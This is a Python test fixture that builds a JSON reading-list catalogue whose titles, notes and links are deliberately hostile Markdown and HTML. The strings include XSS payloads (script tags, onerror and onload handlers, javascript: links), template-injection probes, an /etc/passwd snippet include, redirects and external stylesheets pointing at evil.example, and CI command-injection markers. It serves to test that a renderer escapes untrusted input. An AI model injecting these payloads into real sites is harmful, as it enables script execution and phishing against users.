"""A list whose every text means harm: what a stranger could put into a pull request.

Each payload sets `window.pwned`, opens a dialog or asks another host, so that a browser tells.
"""

from __future__ import annotations

import json
from typing import Any

NAMES = (
    "script <script>window.pwned=1;alert(1)</script>",
    "rawtext </title><script>window.pwned=1</script>",
    "textarea </textarea></script></style><img src=x onerror=window.pwned=1>",
    "[mdlink](javascript:window.pwned=1)",
    "![mdimage](https://evil.example/pixel.gif)",
    "[reference]: javascript:window.pwned=1",
    "<https://evil.example/autolink>",
    "attributes {: #evil .evil onclick=\"window.pwned=1\" }",
    "shorthand {#evil}",
    "quote\" onmouseover=\"window.pwned=1\" x=\"",
    "apostrophe' onmouseover='window.pwned=1' }",
    "# hash not a heading ##",
    "===",
    "1. numbered",
    "- dashed",
    "> quoted",
    "    indented four",
    "*star* _under_ **bold** ~~gone~~ ``code`` `tick",
    "--8<-- \"mkdocs.yml\"",
    "{{ jinja.__class__ }} {% for x in y %} {# comment #}",
    "${template} $(shell) `back` %s {0} \\1 \\g<0>",
    "dot\"]; evil [label=\"x\", URL=\"javascript:window.pwned=1\"]; y [label=\"z",
    "<<table><tr><td href=\"javascript:window.pwned=1\">html label</td></tr></table>>",
    "\\N \\G \\E \\T \\L \\l \\r \\n backslashes\\",
    "]]><script>window.pwned=1</script><![CDATA[ cdata",
    "<!-- comment --> <?php ?> <!DOCTYPE x>",
    "&lt;b&gt;entities&lt;/b&gt; &amp;amp; &#60; &copy; &AMP &notit;",
    "math $O(n^2)$ and $$x_{<k}$$ \\(y\\)",
    "note[^1] *[HTML]: abbreviation",
    "!!! danger \"admonition\"",
    "??? closed \"details\"",
    "=== \"Tab\"",
    "[TOC]",
    "::: block :::",
    "[[p1]] wiki",
    "##[add-mask]evil ::stop-commands::evil",
    "__search",
    "<svg/onload=window.pwned=1> <math><mtext></mtext></math>",
    "two  blanks, no\u00a0break, tab-less",
    "مقدمة في الشبكات שלום right to left",
    "注意力機構 と 学習 한국어",
    "e\u0301 combining, 🧠 astral, 👩\u200d🔬 joined, ﬁ ligature",
    "<5 billion parameters & more >=",
    "@import url(//evil.example/x.css); </style>",
    "\U0001f1e9\U0001f1ea :smile: (c) -> 1/2 ++key++ ^^ins^^ ==mark==",
    "---",
)  # fmt: skip
"""One line each: titles of the list, its sections, papers, routes and links; authors, reasons."""

SHORTS = (
    "<b>b</b>", "\"quo'te\"", "{: .x }", "`tick`", "[a](b)", "&amp;", "$x$", "\\N", "漢字の略",
    "{{ 7*7 }}", "שלום", "<img src=x onerror=1>", "]]>", "# x", "*a*",
)  # fmt: skip

NOTES = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1></svg><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=pw autofocus onfocus=window.pwned=1></form>",
    "[x](javascript:window.pwned=1) [y](JaVaScRiPt:window.pwned=1) [z](java&#115;cript:pwned=1)",
    "[x](data:text/html,<script>window.pwned=1</script>) [y](vbscript:x) [z](//evil.example/)",
    "<javascript:window.pwned=1> [r]\n\n[r]: javascript:window.pwned=1 'title\"><script>'",
    "![x](https://evil.example/pixel.gif){: onerror=\"window.pwned=1\" }",
    "text\n{: onclick=\"window.pwned=1\" #evil .md-content }",
    "### heading {: #evil onclick=\"window.pwned=1\" }",
    "# p1\n\n## p1 {: #p1 }\n\nsetext\n======\n\nsetext two\n----------",
    "--8<-- \"/etc/passwd\"\n\n--8<--\nmkdocs.yml\n--8<--\n\n;--8<-- \"mkdocs.yml\"",
    "{{ 7*7 }} {% for x in y %} {{ config }} {# x #}",
    "---\ntemplate: evil.html\nhide: [navigation]\ntitle: evil\n---\n",
    "```\nswallows what follows\n\n## p1\n\n</div>",
    "~~~ {.python onclick=\"window.pwned=1\"}\nx\n~~~\n\n````\n```\n",
    "``` { .html #evil onclick=window.pwned=1 title=\"<script>window.pwned=1</script>\" }\nx\n```",
    "```mermaid\ngraph TD; A-->B; click A \"javascript:window.pwned=1\"\n```",
    "x[^1]\n\n[^1]: <script>window.pwned=1</script>\n\n*[x]: <script>",
    "!!! note \"<img src=x onerror=window.pwned=1>\"\n    x\n\n??? note\n    x",
    "=== \"Tab\"\n\n    inside\n\n[TOC]\n\n[[TOC]]",
    "</div></div></section></article></main><div id=\"__search\">",
    "<div markdown=\"1\">\n\n## inside {: #evil }\n\n</div>",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "$\\text{<script>window.pwned=1</script>}$ and $\\href{javascript:window.pwned=1}{x}$",
    "$$\\unknown{x} <img src=x onerror=window.pwned=1> $$ and $\\class{evil}{x}$ $\\style{x}{y}$",
    "$</math><script>window.pwned=1</script>$ $\\begin{array}{<script>} x \\end{array}$",
    "$\\color{red}{x}$ $\\mathbb{\"onclick=window.pwned=1}$ $a & b$ $\\hspace{1em\"onclick=1}$",
    "| a | b |\n|---|---|\n| <script>window.pwned=1</script> | `<b>` |",
    "> " * 60 + "x\n\n" + "- " * 60 + "y",
    "a\\\nb  \nc\ttab\n\n    indented code\twith <b>\n\n<!-- ",
    "<![CDATA[ x ]]> <?php echo 1 ?> <!DOCTYPE html> <!-- \n\n-->",
    "[a](#p1) [b](#Nobody) [[p1]] [[Nobody]] [c](/etc/passwd) [d](../../x) [e](mailto:a@b?cc=c)",
    "[x](https://user:pass@evil.example/) [y](https:evil.example) [z](http:///x) [w](https://\\x)",
    "{: .evil }\n\n{#evil}\n\n* list {: #evil }\n{: onclick=1 }",
    "\u0002wzxhzdk:0\u0003".replace("\u0002", "").replace("\u0003", "") + " klzzwxh:0001 &#2;&#3;",
    "<textarea><title><noscript><plaintext><xmp><listing>",
    "`" * 30 + "x" + "[" * 30 + "(" * 30 + "*" * 30 + "_" * 30,
    "</style><style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href=https://evil.example/> <object data=x> <embed src=x> <template><p>",
)  # fmt: skip


def _paper(number: int) -> dict[str, Any]:
    name = NAMES[number].strip()
    paper: dict[str, Any] = {
        "id": f"p{number}",
        "title": name,
        "section": f"s{number // 6}",
        "authors": [name, "Ada Krume"],
        "year": 2000,
        "venue": name,
        "url": "https://example.org/?a=1&b=(2)&copy=3#x",
        "tldr": name,
        "notes": NOTES[number % len(NOTES)],
        "links": [{"title": name, "url": "https://example.org/?a=1&b=(2)&copy=3#x"}],
        "tags": ["tag"],
        "minutes": 5,
    }
    if number % 5:
        paper["added"] = f"2024-02-0{number % 5}"
    if number < len(SHORTS):
        paper["short"] = SHORTS[number]
    if number:
        paper["needs"] = [{"paper": f"p{number - 1}", "why": name}]
    if number > 1:
        paper["background"] = [{"paper": f"p{number - 2}", "why": name}]
    return paper


def _document() -> dict[str, Any]:
    names = [name.strip() for name in NAMES]
    return {
        "title": names[1],
        "summary": "\n\n".join(NOTES[:20]),
        "routes": [
            {"title": name, "to": [f"p{number}"], "summary": NOTES[number % len(NOTES)]}
            for number, name in enumerate(names)
        ],
        "sections": [
            {"id": f"s{number}", "title": name, "summary": NOTES[-1 - number % len(NOTES)]}
            for number, name in enumerate(names)
        ],
        "papers": [_paper(number) for number, _ in enumerate(names)],
    }


DOCUMENT = _document()
CATALOGUE = json.dumps(DOCUMENT, ensure_ascii=False)
"""JSON is YAML."""
